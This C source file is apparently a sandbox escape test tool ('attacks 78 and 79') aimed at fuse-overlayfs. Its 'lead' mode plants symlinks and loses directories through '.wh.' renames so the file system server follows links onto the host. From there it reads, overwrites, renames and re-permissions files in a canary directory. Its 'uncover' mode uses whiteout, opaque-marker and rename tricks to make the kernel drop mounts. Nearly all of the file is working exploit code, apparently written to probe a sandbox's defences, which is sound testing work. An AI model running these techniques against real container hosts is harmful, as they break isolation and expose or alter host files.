/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Attacks 78 and 79: a payload that leads the file system's server astray.
 *
 *   fuse-attack lead CANARY TOKEN ROOT...     makes fuse-overlayfs follow a link of the payload's on the
 * host. ROOT is the root directory of an overlay, CANARY a directory on the host that is not seen inside,
 * TOKEN what its secrets hold. fuse-attack uncover VARIANT|all [PLACE...] makes the kernel detach mounts;
 * PLACE: a file or directory that is hidden.
 *
 * "lead" prints "learnt NAME" for each attack that brought something of the host inside. What else it does
 * has to be looked for on the host, in the directory CANARY/NAME. "uncover" prints "escaped" or "held".
 *
 * A directory gets lost like this: it is renamed to ".wh.x", which fuse-overlayfs lets pass. When something
 * is renamed over that, the kernel asks again whether the name is there, and fuse-overlayfs denies it; then
 * it finds the directory in its own table after all, and moves it out of the way, to a number in its work
 * directory. For the kernel it is alive, if only by a descriptor, while fuse-overlayfs takes the number for a
 * path in the upper directory. There the payload can have a link of that name, and a path with a link in the
 * middle leads to where the link leads on the host.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <poll.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/xattr.h>
#include <unistd.h>

#define EXCHANGE 2 /* RENAME_EXCHANGE */

/* How many numbers in a row are links of ours, and how many fuse-overlayfs may be ahead of our own count. */
enum { LINKS = 48, AHEAD = 24 };

static const char *canary, *token;
static int root, lost;

static void learnt(const char *name)
{
        printf("learnt %s\n", name);
}

static void tried(const char *name, long r)
{
        printf("tried %s: %s\n", name, r < 0 ? strerrorname_np(errno) : "done");
}

typedef char Name[64];

static const char *fd_path(int fd, Name out)
{
        (void)snprintf(out, sizeof(Name), "/proc/self/fd/%d", fd);
        return out;
}

/* Whether the token is in what can be read from the file. */
static bool holds_token(int dir, const char *path)
{
        char text[256] = "";
        int fd = openat(dir, path, O_RDONLY | O_NONBLOCK);
        if (fd < 0)
                return false;
        ssize_t n = read(fd, text, sizeof(text) - 1);
        close(fd);
        return n > 0 && strstr(text, token);
}

/*
 * fuse-overlayfs counts: whatever is made under a temporary name, or removed, takes a number. What the
 * payload did took so many; a few were taken before.
 */
static long counter;

static int make_symlink(const char *target, const char *name)
{
        counter++;
        return symlinkat(target, root, name);
}

static int remove_at(int dir, const char *name, int flags)
{
        counter++;
        return unlinkat(dir, name, flags);
}

/* Links of the names that will be used next, to @target. Returns the first of them. */
static long plant(const char *target)
{
        Name name;
        long first = counter + LINKS;
        for (long i = first; i < first + LINKS; i++) {
                (void)snprintf(name, sizeof(name), "%ld", i);
                if (make_symlink(target, name) < 0)
                        return -1;
        }
        return first;
}

static bool is_past(long first)
{
        return counter > first + LINKS + AHEAD;
}

/* Makes a directory get lost; returns a descriptor of it. */
static int lose(void)
{
        static unsigned round;
        Name name, hidden;
        (void)snprintf(name, sizeof(name), "lost-%u", round);
        (void)snprintf(hidden, sizeof(hidden), ".wh.lost-%u", round++);
        counter += 2;
        if (mkdirat(root, name, 0755) < 0)
                return -1;
        int fd = openat(root, name, O_RDONLY | O_DIRECTORY);
        if (fd < 0 || renameat(root, name, root, hidden) < 0 || make_symlink("x", "over") < 0 ||
            renameat(root, "over", root, hidden) < 0) {
                (void)remove_at(root, "over", 0);
                (void)remove_at(root, name, AT_REMOVEDIR);
                close(fd);
                return -1;
        }
        return fd;
}

/* Makes directories get lost until one's number is that of a link to the canary: its marker is seen below it.
 */
static int lose_at_link(long first, const char *marker)
{
        struct stat st;
        while (!is_past(first)) {
                int fd = lose();
                if (fd < 0)
                        return -1;
                counter++;
                /* It is known to be empty until something in it was removed. */
                if (mkdirat(fd, "new", 0755) == 0 && remove_at(fd, "new", AT_REMOVEDIR) == 0 &&
                    fstatat(fd, marker, &st, AT_SYMLINK_NOFOLLOW) == 0)
                        return fd;
                close(fd);
        }
        errno = ESRCH;
        return -1;
}

/* What is done by the descriptor of a lost directory; NAME/... is below the canary. */

static void lost_stat(void)
{
        struct stat st;
        int r = fstatat(lost, "stat/secret", &st, 0);
        if (r == 0 && st.st_size > 0)
                learnt("stat");
        tried("stat", r);
}

static void lost_read(void)
{
        if (holds_token(lost, "read/secret"))
                learnt("read");
        int fd = openat(lost, "read/directory", O_RDONLY | O_DIRECTORY);
        DIR *d = fd < 0 ? NULL : fdopendir(fd);
        for (struct dirent *e; d && (e = readdir(d));)
                if (strstr(e->d_name, token))
                        learnt("read");
        tried("read", d ? 0 : -1);
        if (d)
                closedir(d);
}

static void lost_truncating_open(void)
{
        int fd = openat(lost, "open/secret", O_WRONLY | O_TRUNC);
        tried("open", fd);
        if (fd >= 0)
                close(fd);
}

static void lost_readlink(void)
{
        char to[PATH_MAX] = "";
        ssize_t n = readlinkat(lost, "readlink/link", to, sizeof(to) - 1);
        if (n > 0 && strstr(to, token))
                learnt("readlink");
        tried("readlink", n);
}

static void lost_xattr(void)
{
        char path[128], value[256] = "", names[1024] = "";
        Name self;
        (void)snprintf(path, sizeof(path), "%s/getxattr/secret", fd_path(lost, self));
        ssize_t n = lgetxattr(path, "user.secret", value, sizeof(value) - 1);
        ssize_t m = llistxattr(path, names, sizeof(names));
        if ((n > 0 && strstr(value, token)) || (m > 0 && memmem(names, (size_t)m, "user.secret", 11)))
                learnt("getxattr");
        tried("getxattr", n);
}

static void lost_link_in(void)
{
        (void)unlinkat(root, "stolen", 0);
        int r = linkat(lost, "link/secret", root, "stolen", 0);
        tried("link", r);
        if (r < 0)
                return;
        if (holds_token(root, "stolen"))
                learnt("link");
        int fd = openat(root, "stolen", O_WRONLY | O_APPEND);
        if (fd >= 0) {
                tried("link", write(fd, "written\n", 8));
                close(fd);
        }
        (void)unlinkat(root, "stolen", 0);
}

static void lost_link_out(void)
{
        int fd = openat(root, "own", O_CREAT | O_WRONLY, 0644);
        if (fd >= 0)
                close(fd);
        tried("link-out", linkat(root, "own", lost, "link-out/new", 0));
        (void)unlinkat(root, "own", 0);
}

static void lost_create(void)
{
        int fd = openat(lost, "create/new", O_CREAT | O_EXCL | O_RDWR, 0644);
        tried("create", fd);
        if (fd >= 0) {
                tried("create", write(fd, "written\n", 8));
                close(fd);
        }
}

static void lost_mkdir(void)
{
        tried("mkdir", mkdirat(lost, "mkdir-new", 0755));
}

static void lost_mknod(void)
{
        tried("mknod", mknodat(lost, "mknod-fifo", S_IFIFO | 0644, 0));
        tried("mknod", mknodat(lost, "mknod-file", S_IFREG | 0644, 0));
}

static void lost_symlink(void)
{
        tried("symlink", symlinkat("anywhere", lost, "symlink/new"));
}

static void lost_unlink(void)
{
        int fd = openat(lost, "unlink/secret", O_PATH);
        Name self;
        int r = unlinkat(lost, "unlink/secret", 0);
        /* In the work directory it can be opened. */
        if (r == 0 && fd >= 0 && holds_token(AT_FDCWD, fd_path(fd, self)))
                learnt("unlink");
        tried("unlink", r);
        if (fd >= 0)
                close(fd);
}

static void lost_rmdir(void)
{
        tried("rmdir", unlinkat(lost, "rmdir/directory", AT_REMOVEDIR));
}

static void lost_rename(void)
{
        int fd = openat(root, "own", O_CREAT | O_WRONLY, 0644);
        if (fd >= 0)
                close(fd);
        tried("rename", renameat(lost, "rename/secret", root, "stolen"));
        if (holds_token(root, "stolen"))
                learnt("rename");
        tried("rename", renameat(root, "own", lost, "rename/new"));
        tried("rename", renameat2(root, "own", lost, "rename/secret", EXCHANGE));
        tried("rename", renameat(root, "own", lost, "rename/secret"));
        (void)unlinkat(root, "own", 0);
        (void)unlinkat(root, "stolen", 0);
}

static void lost_chmod(void)
{
        tried("chmod", fchmodat(lost, "chmod/secret", 0666, 0));
}

static void lost_chown(void)
{
        tried("chown", fchownat(lost, "chown/secret", 1, 1, AT_SYMLINK_NOFOLLOW));
}

static const struct timespec long_ago[2] = {{.tv_sec = 1}, {.tv_sec = 1}};

static void lost_utimens(void)
{
        tried("utimens", utimensat(lost, "utimens/secret", long_ago, AT_SYMLINK_NOFOLLOW));
}

static void lost_truncate(void)
{
        char path[128];
        Name self;
        (void)snprintf(path, sizeof(path), "%s/truncate/secret", fd_path(lost, self));
        tried("truncate", truncate(path, 0));
}

static void lost_setxattr(void)
{
        char path[128];
        Name self;
        (void)snprintf(path, sizeof(path), "%s/setxattr/secret", fd_path(lost, self));
        tried("setxattr", lsetxattr(path, "user.new", "x", 1, 0));
        tried("setxattr", lremovexattr(path, "user.secret"));
}

/*
 * A way to the canary that can't be gone in the upper directory, as a link of ours leads to itself there: so
 * fuse-overlayfs finds too many links (ELOOP) where it opens something beneath the upper directory, and takes
 * the path.
 */
static const char *way_with_loop(bool is_root, char *way, size_t size)
{
        static const char *const empty[] = {"opt", "usr/local/src", "usr/local/games", "usr/local/include",
                                            "usr/games"};
        for (size_t i = 0; i < sizeof(empty) / sizeof(*empty); i++) {
                counter++;
                if (is_root && unlinkat(root, empty[i], AT_REMOVEDIR) < 0)
                        continue;
                if (make_symlink(strrchr(empty[i], '/') ? strrchr(empty[i], '/') + 1 : empty[i], empty[i]) <
                    0)
                        continue;
                (void)snprintf(way, size, "/%s/%s%s", empty[i],
                               i == 0  ? ".."
                               : i < 4 ? "../../.."
                                       : "../..",
                               canary);
                return way;
        }
        return canary;
}

static void by_lost_directory(bool is_root)
{
        char way[PATH_MAX];
        long first = plant(way_with_loop(is_root, way, sizeof(way)));
        lost = first < 0 ? -1 : lose_at_link(first, "marker");
        tried("lost-directory", lost);
        if (lost >= 0) {
                lost_stat();
                lost_read();
                lost_truncating_open();
                lost_readlink();
                lost_xattr();
                lost_link_in();
                lost_link_out();
                lost_create();
                lost_mkdir();
                lost_mknod();
                lost_symlink();
                lost_chmod();
                lost_chown();
                lost_utimens();
                lost_truncate();
                lost_setxattr();
                lost_rename();
                lost_unlink();
                lost_rmdir();
                close(lost);
        }
}

/*
 * Ways to the host's root that a server in a root of its own might still have: by itself and by what it has
 * open. Each of the next numbers is another one's.
 */
static void by_magic_links(void)
{
        static const char *const ways[] = {"/proc/self/root", "/proc/self/cwd",   "/proc/1/root",
                                           "/proc/self/fd/3", "/proc/self/fd/4",  "/proc/self/fd/5",
                                           "/proc/self/fd/6", "/proc/self/fd/7",  "/proc/self/fd/8",
                                           "/proc/self/fd/9", "/proc/self/fd/10", "/proc/self/fd/11",
                                           "/proc/self/fd/12"};
        enum { WAYS = sizeof(ways) / sizeof(*ways) };
        char target[PATH_MAX];
        Name name;
        bool found = false;
        long first = counter + 2 * LINKS, last = first + 2 * LINKS;
        for (long i = first; i < last; i++) {
                (void)snprintf(target, sizeof(target), "%s%s", ways[i % WAYS], canary);
                (void)snprintf(name, sizeof(name), "%ld", i);
                if (make_symlink(target, name) < 0)
                        return;
        }
        while (counter < last + AHEAD && !found) {
                struct stat st;
                int fd = lose();
                if (fd < 0)
                        return;
                counter += 2;
                found = mkdirat(fd, "new", 0755) == 0 && unlinkat(fd, "new", AT_REMOVEDIR) == 0 &&
                        fstatat(fd, "marker", &st, AT_SYMLINK_NOFOLLOW) == 0;
                if (found)
                        (void)mkdirat(fd, "magic-new", 0755);
                close(fd);
        }
        if (found)
                learnt("magic");
        tried("magic", found ? 0 : -1);
}

/*
 * What is removed but still held is a number in the work directory, and fuse-overlayfs gives up its path in
 * the *upper* directory to chmod(2), utimensat(2) and chown(2), which follow a link of that name.
 */
static void by_held_node(const char *name, int (*make)(const char *path), int (*change)(const char *self))
{
        char target[PATH_MAX];
        Name self;
        int r = -1;
        (void)snprintf(target, sizeof(target), "%s/%s/secret", canary, name);
        long first = plant(target);
        while (first >= 0 && !is_past(first)) {
                counter++;
                int fd = make("held") < 0 ? -1 : openat(root, "held", O_PATH | O_NOFOLLOW);
                r = remove_at(root, "held", 0) < 0 || fd < 0 ? -1 : change(fd_path(fd, self));
                bool found = r < 0 && errno == EIO;
                close(fd);
                /* The attributes that come back are of another kind of file, and the kernel can tell. */
                if (found) {
                        learnt(name);
                        break;
                }
        }
        tried(name, r);
}

static int change_mode(const char *self)
{
        return chmod(self, 0666);
}

static int change_times(const char *self)
{
        return utimensat(AT_FDCWD, self, long_ago, 0);
}

static int change_owner(const char *self)
{
        return chown(self, 0, 0);
}

static int make_fifo(const char *path)
{
        return mknodat(root, path, S_IFIFO | 0600, 0);
}

static int make_socket(const char *path)
{
        struct sockaddr_un a = {.sun_family = AF_UNIX};
        Name self;
        int fd = socket(AF_UNIX, SOCK_STREAM, 0);
        (void)snprintf(a.sun_path, sizeof(a.sun_path), "%.40s/%.40s", fd_path(root, self), path);
        int r = bind(fd, (struct sockaddr *)&a, sizeof(a));
        close(fd);
        return r;
}

/* The attributes of a removed link are asked for by its path, and are those of what it leads to. */
static void by_held_link(void)
{
        char target[PATH_MAX], names[1024], value[256] = "";
        Name self;
        (void)snprintf(target, sizeof(target), "%s/held-link/secret", canary);
        if (make_symlink(target, "held-link") < 0)
                return;
        int fd = openat(root, "held-link", O_PATH | O_NOFOLLOW);
        (void)remove_at(root, "held-link", 0);
        ssize_t n = fd < 0 ? -1 : listxattr(fd_path(fd, self), names, sizeof(names));
        ssize_t m = fd < 0 ? -1 : getxattr(self, "user.secret", value, sizeof(value) - 1);
        if ((n > 0 && memmem(names, (size_t)n, "user.secret", 11)) || (m > 0 && strstr(value, token)))
                learnt("held-link");
        tried("held-link", n);
        if (fd >= 0)
                close(fd);
}

/*
 * Where fuse-overlayfs takes the path of a node, it cuts it off at PATH_MAX: of a name so far below, some
 * bytes are left, and with links for each number of bytes one is followed.
 */
static void by_long_path(void)
{
        enum { NAME = 200, DEPTH = 3894, STEP = 200 };
        char name[NAME + 1], target[PATH_MAX];
        Name self;
        int dir = dup(root), r = -1;
        memset(name, 'f', NAME);
        (void)snprintf(target, sizeof(target), "%s/long/secret", canary);
        for (int left = DEPTH; dir >= 0 && left > 0;) {
                int n = left > STEP ? STEP : left;
                name[n - 1] = '\0';
                counter++;
                int below = mkdirat(dir, name, 0755) < 0 ? -1 : openat(dir, name, O_RDONLY | O_DIRECTORY);
                name[n - 1] = 'f';
                close(dir);
                dir = below;
                left -= n;
        }
        for (int n = 20; dir >= 0 && n < NAME; n++) {
                name[n] = '\0';
                counter++;
                int made = symlinkat(target, dir, name);
                name[n] = 'f';
                if (made < 0)
                        break;
        }
        name[NAME] = '\0';
        counter++;
        int fd = dir < 0 || mknodat(dir, name, S_IFIFO | 0600, 0) < 0
                         ? -1
                         : openat(dir, name, O_PATH | O_NOFOLLOW);
        if (fd >= 0)
                r = fchmodat(AT_FDCWD, fd_path(fd, self), 0666, 0);
        if (r < 0 && errno == EIO)
                learnt("long");
        tried("long", r);
        close(fd);
        close(dir);
}

/* Of a directory with a default list of access, mknod(2) gives it on, by a path from where fuse-overlayfs is.
 */
static void by_acl(void)
{
        /* user::rwx group::r-x other::r-x */
        static const char acl[] =
                "\2\0\0\0\1\0\7\0\xff\xff\xff\xff\4\0\5\0\xff\xff\xff\xff\x20\0\5\0\xff\xff\xff\xff";
        char path[PATH_MAX];
        struct stat at_root, there;
        Name self;
        (void)snprintf(path, sizeof(path), "%s/acl", canary + 1);
        for (char *p = path; (p = strchr(p, '/')); *p++ = '/') {
                *p = '\0';
                counter++;
                (void)mkdirat(root, path, 0755);
        }
        counter++;
        (void)mkdirat(root, path, 0755);
        int dir = openat(root, path, O_RDONLY | O_DIRECTORY);
        if (dir >= 0 && fstat(root, &at_root) == 0 && fstat(dir, &there) == 0 &&
            at_root.st_dev == there.st_dev) {
                (void)setxattr(fd_path(dir, self), "system.posix_acl_default", acl, sizeof(acl) - 1, 0);
                counter++;
                tried("acl", mknodat(dir, "directory", S_IFIFO | 0600, 0));
        }
        close(dir);
}

static int lead(char **argv)
{
        dev_t seen[8];
        size_t n_seen = 0;
        struct stat st;
        if (!argv[0] || !argv[1])
                return 2;
        canary = argv[0];
        token = argv[1];
        umask(0);
        for (argv += 2; *argv && n_seen < 8; argv++) {
                root = open(*argv, O_RDONLY | O_DIRECTORY);
                if (root < 0 || fstat(root, &st) < 0)
                        return 2;
                bool known = false;
                for (size_t i = 0; i < n_seen; i++)
                        known = known || seen[i] == st.st_dev;
                if (known)
                        continue;
                seen[n_seen++] = st.st_dev;
                printf("at %s\n", *argv);
                counter = 0;
                by_held_node("held-chmod", make_fifo, change_mode);
                by_held_node("held-utimens", make_socket, change_times);
                by_held_node("held-chown", make_fifo, change_owner);
                by_held_link();
                by_magic_links();
                by_long_path();
                by_acl();
                by_lost_directory(strcmp(*argv, "/") == 0);
                close(root);
        }
        puts("done");
        return 0;
}

/* Mounts */

enum { MAX_MOUNTS = 512 };

typedef struct Mount {
        int id, parent;
        char *root, *point;
        bool in_memory; /* a tmpfs */
} Mount;

typedef struct Mounts {
        size_t n;
        Mount items[MAX_MOUNTS];
} Mounts;

static Mounts *mounts_now(void)
{
        Mounts *m = calloc(1, sizeof(*m));
        FILE *f = fopen("/proc/self/mountinfo", "r");
        char *line = NULL;
        size_t size = 0;
        if (!m || !f)
                exit(2);
        while (m->n < MAX_MOUNTS && getline(&line, &size, f) > 0) {
                Mount *mount = &m->items[m->n];
                if (sscanf(line, "%d %d %*s %ms %ms", &mount->id, &mount->parent, &mount->root,
                           &mount->point) != 4)
                        exit(2);
                mount->in_memory = strstr(line, " - tmpfs ");
                m->n++;
        }
        free(line);
        fclose(f);
        return m;
}

static const Mount *by_id(const Mounts *m, int id)
{
        for (size_t i = 0; i < m->n; i++)
                if (m->items[i].id == id)
                        return &m->items[i];
        return NULL;
}

static Mounts *mounts;
static int n_escaped;

/*
 * Says which mounts are not where they were the last time. What is mounted in a tmpfs may be moved with the
 * directory it is on: nothing of the host is below that.
 */
static void look(const char *variant, const char *place)
{
        Mounts *now = mounts_now();
        for (size_t i = 0; i < mounts->n; i++) {
                const Mount *was = &mounts->items[i], *is = by_id(now, was->id),
                            *holder = by_id(now, was->parent);
                if (is && (strcmp(is->point, was->point) == 0 || (holder && holder->in_memory)))
                        continue;
                /* What is on another one goes with it. */
                if (is && holder && strncmp(is->point, holder->point, strlen(holder->point)) == 0 &&
                    holder->point[1] && by_id(mounts, was->parent) &&
                    strcmp(holder->point, by_id(mounts, was->parent)->point) != 0)
                        continue;
                printf("escaped: %s of %s: %s is %s\n", variant, place, was->point, is ? "moved" : "gone");
                n_escaped++;
        }
        mounts = now;
}

/* Looks for each mount's name below @dir, where it was below @place: the kernel drops those that are not
 * found. */
static void look_below(const char *dir, const char *place)
{
        size_t n = strlen(place);
        char path[2 * PATH_MAX];
        struct stat st;
        for (size_t i = 0; i < mounts->n; i++) {
                const char *point = mounts->items[i].point;
                if (strncmp(point, place, n) != 0 || point[n] != '/')
                        continue;
                (void)snprintf(path, sizeof(path), "%s%s", dir, point + n);
                /* mkdir(2) and O_EXCL ask the file system again, even for a name that is known. */
                (void)stat(path, &st);
                (void)mkdir(path, 0755);
                (void)open(path, O_CREAT | O_EXCL | O_RDONLY, 0644);
                (void)rename("own-directory", path);
        }
}

static char beside[PATH_MAX]; /* a name in the directory that holds the place */

static const char *beside_of(const char *place, const char *name)
{
        (void)snprintf(beside, sizeof(beside), "%.*s/%s", (int)(strrchr(place, '/') - place), place, name);
        return beside;
}

static void make_file(const char *path)
{
        int fd = open(path, O_CREAT | O_WRONLY, 0644);
        if (fd >= 0)
                close(fd);
}

static void by_exchange(const char *place)
{
        const char *other = beside_of(place, "own-file");
        make_file(other);
        if (renameat2(AT_FDCWD, other, AT_FDCWD, place, EXCHANGE) == 0) {
                look_below(other, place);
                (void)renameat2(AT_FDCWD, other, AT_FDCWD, place, EXCHANGE);
        }
        (void)unlink(other);
        look("exchange", place);
}

/* fuse-overlayfs denies the name ".wh.x", and the kernel drops what the rename was about. */
static void by_unknown_name(const char *place, unsigned flags, bool directory)
{
        static unsigned round;
        char own[PATH_MAX], unknown[PATH_MAX];
        Name name;
        (void)snprintf(name, sizeof(name), ".wh.own-%u", round++);
        (void)snprintf(own, sizeof(own), "%s", beside_of(place, name + 4));
        (void)snprintf(unknown, sizeof(unknown), "%s", beside_of(place, name));
        if (directory)
                (void)mkdir(own, 0755);
        else
                make_file(own);
        (void)rename(own, unknown);
        (void)renameat2(AT_FDCWD, unknown, AT_FDCWD, place, flags);
        (void)renameat2(AT_FDCWD, place, AT_FDCWD, unknown, flags);
}

static void by_unknown_exchange(const char *place)
{
        by_unknown_name(place, EXCHANGE, false);
        look("unknown-exchange", place);
}

static void by_unknown_rename(const char *place)
{
        by_unknown_name(place, 0, true);
        look("unknown-rename", place);
}

/* A whiteout for the place, as fuse-overlayfs writes it where it can't make devices. */
static void by_whiteout(const char *place)
{
        char own[PATH_MAX], whiteout[PATH_MAX + 8];
        struct stat st;
        (void)snprintf(own, sizeof(own), "%s", beside_of(place, "own-whiteout"));
        (void)snprintf(whiteout, sizeof(whiteout), "%.*s/.wh.%s", (int)(strrchr(place, '/') - place), place,
                       strrchr(place, '/') + 1);
        make_file(own);
        (void)rename(own, whiteout);
        (void)stat(place, &st);
        look_below(place, place);
        (void)rmdir(place);
        (void)mkdir(place, 0755);
        look("whiteout", place);
}

static void by_opaque(const char *place)
{
        char own[PATH_MAX], mark[PATH_MAX + 16];
        (void)snprintf(own, sizeof(own), "%s/own-mark", place);
        (void)snprintf(mark, sizeof(mark), "%s/.wh..wh..opq", place);
        make_file(own);
        (void)rename(own, mark);
        (void)setxattr(place, "user.overlay.opaque", "y", 1, 0);
        (void)setxattr(place, "user.fuseoverlayfs.opaque", "y", 1, 0);
        look_below(place, place);
        (void)removexattr(place, "user.overlay.opaque");
        (void)removexattr(place, "user.fuseoverlayfs.opaque");
        look_below(place, place);
        look("opaque", place);
}

/* Away, something else in its place, and back. */
static void by_rename(const char *place)
{
        char away[PATH_MAX];
        (void)snprintf(away, sizeof(away), "%s", beside_of(place, "own-away"));
        bool gone = rename(place, away) == 0;
        if (gone) {
                look("rename", place);
                (void)mkdir(place, 0755);
                look_below(place, place);
                (void)rmdir(place);
                (void)rename(away, place);
        }
        look("rename", place);
}

static void by_removal(const char *place)
{
        char away[PATH_MAX];
        (void)snprintf(away, sizeof(away), "%s", beside_of(place, "own-away"));
        (void)mkdir(away, 0755);
        (void)rename(away, place);
        (void)renameat2(AT_FDCWD, away, AT_FDCWD, place, EXCHANGE);
        (void)rmdir(away);
        (void)rmdir(place);
        (void)unlink(place);
        (void)mkdir(place, 0755);
        look("removal", place);
}

/*
 * By a lost directory that is the root once more: what was copied up is taken away from the upper directory,
 * and fuse-overlayfs, asked for it by its other name, can't find it.
 */
static void by_theft(const char *place)
{
        static int twin = -1;
        struct stat st;
        if (strchr(place + 1, '/'))
                return;
        if (twin < 0) {
                root = open("/", O_RDONLY | O_DIRECTORY);
                make_file("/own-marker");
                long first = plant(".");
                twin = first < 0 ? -1 : lose_at_link(first, "own-marker");
                if (twin < 0)
                        return;
        }
        if (stat(place, &st) == 0)
                (void)chmod(place, st.st_mode & 07777); /* copies it up */
        (void)fstatat(twin, place + 1, &st, 0);
        (void)unlinkat(twin, place + 1, AT_REMOVEDIR);
        (void)mkdir(place, 0755);
        look("theft", place);
}

static const struct {
        const char *name;
        void (*try)(const char *place);
} variants[] = {
        {"exchange", by_exchange},
        {"unknown-exchange", by_unknown_exchange},
        {"unknown-rename", by_unknown_rename},
        {"rename", by_rename},
        {"removal", by_removal},
        {"opaque", by_opaque},
        {"whiteout", by_whiteout},
        {"theft", by_theft},
};

/* The mounts themselves, and the directories on the way to them; each once. */
static size_t list_places(char *places[], size_t max)
{
        size_t n = 0;
        for (size_t i = 0; i < mounts->n; i++) {
                char *place = strdup(mounts->items[i].point);
                for (; place && strlen(place) > 1 && n < max; *strrchr(place, '/') = '\0') {
                        bool known = strncmp(place, "/proc/", 6) == 0 || strncmp(place, "/sys/", 5) == 0;
                        for (size_t k = 0; k < n && !known; k++)
                                known = strcmp(places[k], place) == 0;
                        if (!known)
                                places[n++] = strdup(place);
                }
                free(place);
        }
        return n;
}

/* Whether a hidden place shows more than names of ours and, in /var/log, empty directories of packages. */
static bool shows_something(const char *place)
{
        char text[64];
        bool shows = false;
        int fd = open(place, O_RDONLY | O_NONBLOCK);
        if (fd < 0)
                return false;
        DIR *d = fdopendir(fd);
        if (!d)
                return read(fd, text, sizeof(text)) > 0;
        for (struct dirent *e; (e = readdir(d));)
                if (e->d_name[0] != '.' && strncmp(e->d_name, "own-", 4) != 0) {
                        char below[512];
                        (void)snprintf(below, sizeof(below), "%s/%s", place, e->d_name);
                        shows = shows || strcmp(place, "/var/log") != 0 || e->d_type != DT_DIR ||
                                shows_something(below);
                }
        closedir(d);
        return shows;
}

static int uncover(char **argv)
{
        const char *only = *argv ? *argv++ : "all";
        mounts = mounts_now();
        counter = 40;
        (void)mkdir("own-directory", 0755);
        static char *places[2 * MAX_MOUNTS];
        size_t n = list_places(places, 2 * MAX_MOUNTS);
        for (size_t v = 0; v < sizeof(variants) / sizeof(*variants); v++)
                for (size_t i = 0; i < n; i++)
                        if (strcmp(only, variants[v].name) == 0 ||
                            (strcmp(only, "all") == 0 && variants[v].try != by_theft))
                                variants[v].try(places[i]);
        for (; *argv; argv++)
                if (shows_something(*argv)) {
                        printf("escaped: %s is seen\n", *argv);
                        n_escaped++;
                }
        /* A mount that goes ends the sandbox: the supervisor gets the time to. */
        if (n_escaped)
                (void)poll(NULL, 0, 5000);
        puts(n_escaped ? "escaped" : "held: all mounts are where they were");
        return n_escaped ? 0 : 1;
}

int main(int argc, char **argv)
{
        setvbuf(stdout, NULL, _IOLBF, 0);
        if (argc > 1 && strcmp(argv[1], "lead") == 0)
                return lead(argv + 2);
        if (argc > 1 && strcmp(argv[1], "uncover") == 0)
                return uncover(argv + 2);
        puts("unknown attack");
        return 2;
}
